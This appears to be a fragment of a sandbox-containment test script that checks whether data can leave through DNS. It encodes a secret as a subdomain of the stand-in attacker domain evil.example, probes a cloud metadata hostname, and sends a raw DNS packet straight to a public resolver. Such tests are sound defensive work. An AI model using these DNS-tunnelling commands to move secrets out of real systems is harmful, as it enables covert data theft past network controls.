# Data in DNS queries.
for n in $(printf secret | base64 | tr -d =).evil.example example.com localhost.evil.example metadata.google.internal _x._tcp.evil.example; do
  empty getent hosts $n; done
grep '^nameserver' /etc/resolv.conf | grep -v '^nameserver 127[.]0[.]0[.]' && hole 'a resolver of the host' || held resolver
empty sh -c 'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex(\"123401000001000000000000076578616d706c6503636f6d0000010001\"), (\"8.8.8.8\", 53)); print(s.recv(100))"'
